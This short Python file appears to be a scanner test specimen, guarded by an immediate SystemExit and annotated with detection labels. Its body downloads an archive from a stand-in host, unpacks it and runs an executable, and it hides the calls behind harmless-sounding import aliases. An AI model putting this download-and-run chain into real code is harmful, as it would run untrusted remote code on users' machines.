raise SystemExit("specimen: not to be run")
from os import system as do
from shutil import unpack_archive as open_up
from urllib.request import urlretrieve as fetch

fetch("https://example.com/tool.tar.gz", "specimen-tool.tar.gz")  # match: network-at-import
open_up("specimen-tool.tar.gz", "specimen-tool")
do("specimen-tool/run.exe")  # match: fetched-archive-run  # match: process-at-import
